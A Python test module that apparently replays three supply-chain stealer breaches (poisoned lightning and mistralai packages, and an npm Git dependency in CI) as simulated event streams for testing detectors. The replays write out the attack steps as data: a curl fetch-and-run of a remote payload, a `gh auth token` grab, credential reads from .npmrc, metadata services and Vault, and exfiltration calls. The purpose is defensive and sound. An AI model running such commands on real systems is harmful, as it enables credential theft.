"""Breaches of the worm that calls itself Mini Shai-Hulud: lightning, mistralai, and an npm package in a CI job.

What is taken from reports and what is assumed stands in `examples/replays/<name>/README.md`.
"""

from __future__ import annotations

from eightysix.lab.generate.cluster import SITE_PACKAGES, Image
from eightysix.lab.generate.programs import (
    Endpoint,
    Wheel,
    boot_python,
    call,
    install,
    pip_command,
    read_service_account,
)
from eightysix.lab.generate.scene import Process, Streams
from eightysix.lab.generate.sensor import Stack
from eightysix.lab.generate.settings import Setting
from tests.replays.cast import (
    PROVIDER,
    PYTHON,
    STORE,
    Estate,
    ask_instance_role,
    image_holds,
    ordinary_role,
)
from tests.replays.label import Story, replay
from tests.replays.teampcp import before

__all__ = ["lightning", "mini_shai_hulud", "mistralai"]

_GITHUB = Endpoint("203.0.113.80", 443, "github.com")
_RELEASES = Endpoint("203.0.113.82", 443, "release-assets.githubusercontent.com")
_GITHUB_API = Endpoint("203.0.113.81", 443, "api.github.com")
_NPM = Endpoint("203.0.113.83", 443, "registry.npmjs.org")
_TELEMETRY = Endpoint("198.51.100.26", 443, "zero.masscan.cloud")
_SESSION = Endpoint("198.51.100.24", 443, "filev2.getsession.org")
_PYPI_HOST = Endpoint("83.142.209.194", 443, "")
_VAULT = Endpoint("10.100.61.20", 8200, "vault.svc.cluster.local")
_ECS = Endpoint("169.254.170.2", 80, "169.254.170.2")

_NO_USE = "no report tells that the token was used: only a baseline knows that the destinations are new"
_UNUSED = {
    "kernel": "suspect",
    "kernel, audit": "suspect",
    "kernel, sensor": "suspect",
    "sensor, audit": "suspect",
    "all": "suspect",
    "all, baseline": "contain",
}


def _robbed_by_bun(bun: Process, at: float, home: str) -> None:
    """What the JavaScript payload takes: metadata services, the service account, registry and git logins, Vault."""
    ask_instance_role(bun, at, None)
    call(bun, at + 0.3, _ECS, None)
    read_service_account(bun, at + 0.8, None)
    bun.read(at + 0.9, f"{home}/.npmrc")
    call(bun, at + 1.2, _VAULT, None)


# --- lightning 2.6.2 --------------------------------------------------------------------------------------------------

_LANDS = 2_040.0
_KERNEL = Stack(("app:/tmp/ipykernel_31/1442.py", "ipykernel"))


def _notebook(scene: Estate) -> Process:
    """A data scientist's notebook that has run for half an hour: Jupyter, and the kernel of one notebook."""
    pod = scene.pod("jupyter-mira", namespace="research", kind="StatefulSet", name="jupyter-mira-0")
    container = image_holds(
        scene.container(
            pod, Image("registry.example/research/notebook:2026.4"), started=0.0, name="notebook"
        ),
        ipykernel="7.1.0",
        lightning="2.6.1",
    )
    jupyter = scene.entrypoint(
        0.3, container, PYTHON, "/opt/venv/bin/jupyter-lab --ip=0.0.0.0", cwd="/home/mira"
    )
    boot_python(jupyter, 0.3, [PYTHON, "/opt/venv/bin/jupyter-lab"])
    words = "-m ipykernel_launcher -f /home/mira/.local/share/jupyter/runtime/kernel-7f1c.json"
    kernel = jupyter.exec(60.0, PYTHON, words)
    boot_python(kernel, 60.0, [PYTHON, *words.split()])
    ordinary_role(kernel, 95.0, _KERNEL)
    return kernel


@replay("lightning-2.6.2")
def lightning(setting: Setting) -> tuple[Streams, Streams, Story]:
    """A notebook upgrades lightning and imports it; a thread fetches the Bun runtime, which runs an 11 MB stealer."""
    scene = Estate(setting)
    kernel = _notebook(scene)
    shell = kernel.exec(_LANDS - 0.02, "/bin/bash", '-c "pip install -q -U lightning"')
    pip = shell.exec(_LANDS, f"{PYTHON}3", pip_command("-U", "lightning"))
    install(pip, _LANDS, [Wheel("lightning", "2.6.2", ("lightning/_runtime/start.py",))], took=5.0)
    shell.exit(_LANDS + 5.1)
    begins = _LANDS + 14.0
    kernel.sense_import(begins, "lightning", _KERNEL)
    start = f"{SITE_PACKAGES}/lightning/_runtime/start.py"
    thread = Stack(("lightning",), thread=21)
    kernel.sense_child(begins + 0.3, (PYTHON, start), thread)
    loader = kernel.exec(begins + 0.31, PYTHON, start, cwd=f"{SITE_PACKAGES}/lightning/_runtime")
    boot_python(loader, begins + 0.31, [PYTHON, start])
    by = Stack(("lightning",))
    call(
        loader, begins + 0.8, _GITHUB, by, path="/oven-sh/bun/releases/download/bun-v1.3.13/bun-linux-x64.zip"
    )
    call(loader, begins + 1.0, _RELEASES, by)
    program = f"{SITE_PACKAGES}/lightning/_runtime/bun"
    loader.write(begins + 4.1, program)
    loader.sense_child(begins + 4.2, (program, "router_runtime.js"), by)
    bun = loader.exec(begins + 4.21, program, "router_runtime.js")
    loader.exit(begins + 4.6)
    _robbed_by_bun(bun, begins + 6.0, "/home/mira")
    call(bun, begins + 9.0, _TELEMETRY, None)
    call(bun, begins + 9.6, _GITHUB_API, None)
    bun.exit(begins + 12.0)
    story = Story(
        landed="lightning 2.6.2, `lightning/_runtime/`",
        pod_uid=kernel.container.pod.uid,
        t0_s=_LANDS,
        leaves_s=begins + 9.0,
        rules=("credential-sweep",),
        stages=("land", "run", "reach", "pivot", "leave"),
        verdicts=_UNUSED | {"sensor, audit": "none"},
        short=f"{_NO_USE}; the thief is no Python program, so without the kernel nobody sees it",
    )
    return scene.streams(), before(setting, _notebook), story


# --- mistralai 2.4.6 --------------------------------------------------------------------------------------------------

_AGENT = Stack(("app:/app/agent.py",))


def _agent(scene: Estate, version: str) -> Process:
    """An agent that installs its requirements when it starts."""
    pod = scene.pod("research-agent", namespace="agents")
    container = image_holds(
        scene.container(pod, Image("registry.example/agents/research:8"), started=0.0, name="agent")
    )
    shell = scene.entrypoint(0.2, container, "/bin/sh", "/app/start.sh")
    pip = shell.exec(0.4, f"{PYTHON}3", pip_command("-r", "/app/requirements.txt"))
    wheel = Wheel("mistralai", version, ("mistralai/client/__init__.py",))
    install(pip, 0.4, [Wheel("tiny-metrics", "0.3.0"), wheel], took=4.0)
    agent = shell.replace(4.8, PYTHON, "/app/agent.py")
    boot_python(agent, 4.8, [PYTHON, "/app/agent.py"])
    agent.sense_import(5.6, "mistralai.client", _AGENT)
    ordinary_role(agent, 9.0, _AGENT)
    call(agent, 10.0, PROVIDER, _AGENT)
    return agent


@replay("mistralai-2.4.6")
def mistralai(setting: Setting) -> tuple[Streams, Streams, Story]:
    """An agent installs mistralai 2.4.6 when it starts; importing it fetches `/tmp/transformers.pyz` and runs that."""
    scene = Estate(setting)
    agent = _agent(scene, "2.4.6")
    package = Stack(("mistralai", *_AGENT.frames), at_import="mistralai")
    target = "/tmp/transformers.pyz"
    fetch = f"-k -L -s https://{_PYPI_HOST.address}/transformers.pyz -o {target}"
    agent.sense_child(5.7, ("curl", *fetch.split()), package)
    curl = agent.exec(5.71, "/usr/bin/curl", fetch)
    call(curl, 5.8, _PYPI_HOST, None)
    curl.write(6.4, target)
    curl.exit(6.6)
    agent.sense_child(6.65, (PYTHON, target), package)
    stealer = agent.exec(6.66, PYTHON, target)
    boot_python(stealer, 6.66, [PYTHON, target])
    by = Stack((f"app:{target}",))
    call(stealer, 7.4, _PYPI_HOST, by, path="/v1/models")
    ask_instance_role(stealer, 8.2, by)
    read_service_account(stealer, 9.1, by)
    call(stealer, 9.6, _VAULT, by, path="/v1/sys/health")
    call(stealer, 12.2, _PYPI_HOST, by, path="/v1/weights", method="POST")
    stealer.exit(13.5)
    story = Story(
        landed="mistralai 2.4.6, `mistralai/client/__init__.py`",
        pod_uid=agent.container.pod.uid,
        t0_s=6.4,
        leaves_s=12.2,
        rules=("credential-sweep",),
        stages=("land", "run", "reach", "pivot", "leave"),
        verdicts=_UNUSED,
        short=_NO_USE,
    )
    return scene.streams(), before(setting, lambda earlier: _agent(earlier, "2.4.5")), story


# --- an npm package in a CI job ---------------------------------------------------------------------------------------

_HOME = "/home/runner"
_NODE = "/usr/local/bin/node"
_ACTIONS = Endpoint("203.0.113.60", 443, "pipelines.actions.githubusercontent.com")


def _job(scene: Estate) -> tuple[Process, Process, Process]:
    """A self-hosted runner takes a job, which installs the packages of an agent; returns npm, the step and the worker."""
    pod = scene.pod("agent-ci", namespace="ci", kind="EphemeralRunner", name="agent-ci-5kz2v-runner-x8d4p")
    container = image_holds(
        scene.container(pod, Image("ghcr.io/actions/actions-runner:2.329.0"), started=0.0, name="runner")
    )
    run = scene.entrypoint(0.3, container, "/bin/bash", f"{_HOME}/run.sh --jitconfig", cwd=_HOME, uid=1001)
    listener = run.exec(0.6, f"{_HOME}/bin/Runner.Listener", "run")
    call(listener, 1.4, _ACTIONS, None)
    worker = listener.exec(30.0, f"{_HOME}/bin/Runner.Worker", "spawnclient 118 121")
    step = worker.exec(
        33.0, "/usr/bin/bash", f"-e {_HOME}/_work/_temp/91be07aa.sh", cwd=f"{_HOME}/_work/agent"
    )
    npm = step.exec(33.2, _NODE, "/usr/local/bin/npm ci")
    npm.read(33.4, f"{_HOME}/.npmrc")
    call(npm, 33.8, _NPM, None)
    return npm, step, worker


def _end_job(npm: Process, step: Process, worker: Process, at: float) -> None:
    npm.exit(at)
    step.exit(at + 0.1)
    push = worker.exec(at + 1.0, "/usr/bin/bash", f"-e {_HOME}/_work/_temp/c2d9f014.sh")
    aws = push.exec(at + 1.2, "/usr/local/bin/aws", f"s3 cp dist.tgz s3://{STORE.host.partition('.')[0]}/")
    ask_instance_role(aws, at + 1.6, None)
    call(aws, at + 2.0, STORE, None)
    aws.exit(at + 3.0)
    push.exit(at + 3.1)
    worker.exit(at + 4.0)


@replay("mini-shai-hulud")
def mini_shai_hulud(setting: Setting) -> tuple[Streams, Streams, Story]:
    """A CI job installs an npm package whose Git dependency runs a stealer with Bun while it is prepared."""
    scene = Estate(setting)
    npm, step, worker = _job(scene)
    clone = f"{_HOME}/.npm/_cacache/tmp/git-cloneqT7v2b"
    git = npm.exec(
        36.0, "/usr/bin/git", f"clone --mirror -q https://github.com/tanstack/router.git {clone}/.git"
    )
    call(git, 36.2, _GITHUB, None)
    git.exit(38.0)
    inner = npm.exec(38.1, _NODE, "/usr/local/bin/npm install --force --cache /home/runner/.npm", cwd=clone)
    call(inner, 38.6, _NPM, None)
    shell = inner.exec(41.0, "/bin/sh", '-c "bun run tanstack_runner.js && exit 1"', cwd=clone)
    bun = shell.exec(41.02, f"{clone}/node_modules/bun/bin/bun.exe", "run tanstack_runner.js")
    _robbed_by_bun(bun, 43.0, _HOME)
    gh = bun.exec(45.0, "/usr/bin/gh", "auth token")
    gh.exit(45.1)
    call(bun, 47.0, _SESSION, None)
    call(bun, 47.8, _GITHUB_API, None)
    call(bun, 49.0, _NPM, None)
    bun.exit(53.0)
    shell.exit(53.1, status=1)
    inner.exit(53.2, status=1)
    _end_job(npm, step, worker, 58.0)
    story = Story(
        landed="`@tanstack/react-router` 1.169.5, Git dependency `@tanstack/setup`",
        pod_uid=npm.container.pod.uid,
        t0_s=33.2,
        leaves_s=47.0,
        rules=("credential-sweep", "poisoned-install"),
        stages=("land", "run", "reach", "pivot", "leave"),
        verdicts=_UNUSED | {"sensor, audit": "none"},
        short=f"{_NO_USE}; the thief is no Python program, so without the kernel nobody sees it",
    )
    return scene.streams(), before(setting, lambda earlier: _end_job(*_job(earlier), 58.0)), story
